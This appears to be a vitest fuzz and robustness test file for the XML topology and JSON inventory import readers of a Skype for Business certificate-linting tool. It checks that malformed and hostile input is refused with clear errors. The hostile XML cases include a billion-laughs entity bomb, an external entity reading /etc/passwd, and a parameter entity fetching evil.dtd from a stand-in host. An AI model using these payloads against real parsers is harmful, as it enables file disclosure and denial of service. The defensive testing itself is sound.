import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { InputError } from '../../src/errors.js';
import { InputErrorList } from '../../src/snapshot/errors.js';
import { readInventory } from '../../src/snapshot/import/inventory.js';
import { readTopology } from '../../src/snapshot/import/topology.js';
import { decodeText } from '../../src/snapshot/text.js';
import { expectRobust, fuzz, runs, vagueness, type Reader } from './harness.js';
import { filesIn, mutatedText, ROOT } from './inputs.js';
import { HANG_BUDGET_MS } from '../hang-budget.js';

const NS = 'urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008';
const dir = mkdtempSync(join(tmpdir(), 'sfb-certlint-fuzz-import-'));

/** XML's syntax, the entity and DTD tricks an attacker reaches for, and the attributes the reader looks at. */
const XML_DICTIONARY = [
  ...['<', '>', '</', '/>', '="', "='", '"', '<![CDATA[x]]>', '<!-- x -->', '<?xml version="1.0"?>', '<?pi x?>', '\n', '\t', '\u0000', '\u001b', '\ufeff', '\ud800'],
  ...['<!DOCTYPE Topology [<!ENTITY a "b">]>', '<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;', '&amp;', '&lt;', '&#x10FFFF;', '&#xFFFFFFFF;', '&#0;', '&#99999999999;', '&#x1b;'],
  ...['xmlns:x="urn:x" ', 'x:', `xmlns="${NS}" `, '__proto__', 'constructor', '#text', '@_Fqdn', 'Fqdn="a.contoso.com" ', 'SiteId="1" ', 'Number="1" ', 'RoleName="EdgeServer" '],
  ...['<Cluster Fqdn="p.contoso.com"><ClusterId SiteId="9" Number="9"/></Cluster>', '<Machine Fqdn="m"/>', '<InternalDomain Name="x"/>', 'IsDirector="true" ', 'IsSingleMachineOnly="true" '],
  '<a>'.repeat(150),
  'A'.repeat(300),
];

interface FileCase {
  bytes: Uint8Array;
}

const topologyFile = join(dir, 'topology.xml');
const topologyReader: Reader<FileCase> = {
  name: 'topology (XML)',
  cases: mutatedText(filesIn('fixtures/topology', /\.xml$/).map((p) => readFileSync(p, 'utf8')), XML_DICTIONARY).map((bytes) => ({ bytes })),
  throws: true,
  file: () => topologyFile,
  bytes: (c) => c.bytes,
  read: (c) => {
    writeFileSync(topologyFile, c.bytes);
    readTopology(topologyFile);
    return [];
  },
};

/** A copy of the inventory fixture; each case replaces one of its files, and puts it back after. */
const inventory = join(dir, 'inventory');
cpSync(join(ROOT, 'fixtures/inventory/contoso'), inventory, { recursive: true });
const inventoryFiles = filesIn(relative(ROOT, inventory), /\.json$/).map((path) => ({ path, original: readFileSync(path) }));

/** JSON's syntax, and the values ConvertTo-Json writes that the reader interprets. */
const JSON_DICTIONARY = [
  ...['{', '}', '[', ']', ',', ':', '"', '\\', '\\u0000', '\\ud800', 'null', 'true', '1e999', '-0', '[]', '{}', '"value": ', '"Count": 1, '],
  ...['"Use": "Default", ', '"Use": 3, ', '"Thumbprint": "', '"PreviousThumbprint": "', '"EffectiveDate": "', '"/Date(-99999999999999999)/"', '"/Date(1389000000000+0100)/"'],
  ...['"RawData": "', '"RawData": [48, 3, 2, 1, 1]', '"RawData": "MIIB!"', '"HasPrivateKey": "yes", ', '"KeyProvider": "CNG", ', '{"value": {"value": {"value": "2026-01-01"}}}'],
  ...['"FriendlyName": ', '"FriendlyName": [], ', '"Version": "10.0.14393"', '"Version": 10, ', '"Caption": {}, '],
  '['.repeat(100),
  'A'.repeat(300),
];

interface InventoryCase {
  file: number;
  bytes: Uint8Array;
}

const inventoryReader: Reader<InventoryCase> = {
  name: 'inventory (JSON)',
  cases: fc.nat(inventoryFiles.length - 1).chain((file) =>
    mutatedText([decodeText(inventoryFiles[file]!.original, 'seed')], JSON_DICTIONARY).map((bytes) => ({ file, bytes })),
  ),
  throws: true,
  file: () => inventory,
  bytes: (c) => c.bytes,
  read: (c) => {
    const { path, original } = inventoryFiles[c.file]!;
    writeFileSync(path, c.bytes);
    try {
      readInventory(inventory);
    } finally {
      writeFileSync(path, original);
    }
    return [];
  },
};

describe('fuzzing the import readers: facts or a clear error naming the file', () => {
  it('topology', () => expectRobust(fuzz(topologyReader, runs(300))));
  it('inventory', () => expectRobust(fuzz(inventoryReader, runs(300))));
});

/** The error `read` throws: an InputError, clear, without running away. */
function refused(read: () => unknown): InputError {
  const started = performance.now();
  let error: unknown;
  try {
    read();
  } catch (e) {
    error = e;
  }
  expect(performance.now() - started).toBeLessThan(HANG_BUDGET_MS);
  expect(error).toBeInstanceOf(InputError);
  expect(vagueness(error as InputError)).toBeUndefined();
  return error as InputError;
}

describe('hostile XML, refused with a clear error, without running away', () => {
  const topology = (xml: string | Uint8Array) => {
    writeFileSync(topologyFile, xml);
    return refused(() => readTopology(topologyFile));
  };
  const LAUGHS = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
    ']>',
    `<Topology xmlns="${NS}"><Sites><CentralSite SiteId="1"><Name>&lol9;</Name></CentralSite></Sites></Topology>`,
  ].join('\n');

  it.each([
    ['a billion laughs', LAUGHS],
    ['an external entity', `<?xml version="1.0"?>\n<!DOCTYPE Topology [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Topology xmlns="${NS}"><Sites><CentralSite SiteId="1"><Name>&xxe;</Name></CentralSite></Sites></Topology>`],
    ['a parameter entity', `<!DOCTYPE Topology [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>\n<Topology xmlns="${NS}"/>`],
    ['a DOCTYPE alone', `<!DOCTYPE Topology>\n<Topology xmlns="${NS}"/>`],
    ['a DOCTYPE in lower case, after a comment', `<!-- exported -->\n<!doctype Topology SYSTEM "topology.dtd">\n<Topology xmlns="${NS}"/>`],
  ])('%s', (_, xml) => {
    const error = topology(xml);
    expect(error.message).toMatch(/^refused: the XML declares (a DOCTYPE|an ENTITY) \(entity expansion and external entities are not allowed\)$/);
    expect(error.where.line).toBe(xml.split('\n').findIndex((l) => /<!(DOCTYPE|ENTITY)/i.test(l)) + 1);
  });

  it('the same in UTF-16, as PowerShell 5.1 writes files', () => {
    expect(topology(Buffer.from(`\ufeff${LAUGHS}`, 'utf16le')).message).toMatch(/^refused: the XML declares a DOCTYPE/);
  });

  it('elements nested 100,000 deep: the parser\'s limit, as an InputError (it escaped as a plain Error)', () => {
    expect(topology('<a>'.repeat(100_000) + '</a>'.repeat(100_000)).message).toBe('cannot read the XML: Maximum nested tags exceeded');
  });

  it('100,000 unclosed elements: a message of one line, not the list of every tag', () => {
    const { message } = topology('<a>'.repeat(100_000));
    expect(message.length).toBeLessThanOrEqual(220);
    expect(message).toMatch(/^malformed XML: /);
  });

  it('a long namespace, and an FQDN with an escape sequence in the element path: cut short and escaped (found by the long run)', () => {
    expect(topology(`<Topology xmlns="urn:${'x'.repeat(2000)}"/>`).message.length).toBeLessThan(200);
    const error = refused(() => {
      writeFileSync(topologyFile, `<Topology xmlns="${NS}"><InternalDomains><InternalDomain Name="contoso.com"/></InternalDomains><Clusters><Cluster Fqdn="a&#x1b;[2J.contoso.com"/></Clusters></Topology>`);
      readTopology(topologyFile);
    });
    expect(error.where.element).toBe("/Topology/Clusters/Cluster[@Fqdn='a\\1B[2J.contoso.com']");
  });

  it('a control character is escaped in the message', () => {
    expect(topology(`<Topology xmlns="${NS}">\u001b</Topology>`).message).not.toMatch(/\u001b/);
  });
});

describe('hostile inventory files', () => {
  /** An inventory of one server whose cscertificate.json is `json`. */
  function inventoryOf(json: string): () => unknown {
    const root = mkdtempSync(join(dir, 'inventory-'));
    mkdirSync(join(root, 'fe01.contoso.com'));
    writeFileSync(join(root, 'fe01.contoso.com', 'cscertificate.json'), json);
    return () => readInventory(root);
  }

  it('a date wrapped 200,000 times: unreadable, not a stack overflow (RangeError escaped)', () => {
    const json = `[{"Use":"Default","Thumbprint":"${'A'.repeat(40)}","EffectiveDate":${'{"value":'.repeat(200_000)}"2026-01-01"${'}'.repeat(200_000)}}]`;
    expect(refused(inventoryOf(json)).message).toBe('EffectiveDate an object is not a date');
  });

  it('a row of 200,000 nested lists: named, not printed (RangeError escaped)', () => {
    expect(refused(inventoryOf(`[${'['.repeat(200_000)}${']'.repeat(200_000)}]`)).message).toBe('expected objects, found a list');
  });

  it('300,000 empty rows stop at 100 errors (at 4 MB: 1.4 million errors, 1.4 GB, 19 s)', () => {
    const error = refused(inventoryOf(`[${'{},'.repeat(300_000)}{}]`));
    expect(error.message).toBe('Use is missing (and 100 more)');
    expect((error as InputErrorList).errors.at(-1)!.message).toBe('stopped after 100 errors: the rest of the inventory is not checked');
  });

  it('a DEL character in a value is escaped (JSON.stringify leaves it raw)', () => {
    expect(refused(inventoryOf('[{"Use":"Default","Thumbprint":"AB\u007fCD"}]')).message).toBe('Thumbprint "AB\\u007fCD" is not a thumbprint');
  });

  it('a megabyte string: quoted, cut short (the message held all of it)', () => {
    const { message } = refused(inventoryOf(`[${JSON.stringify('x'.repeat(1_000_000))}]`));
    expect(message).toBe(`expected objects, found "${'x'.repeat(79)}…"`);
  });
});
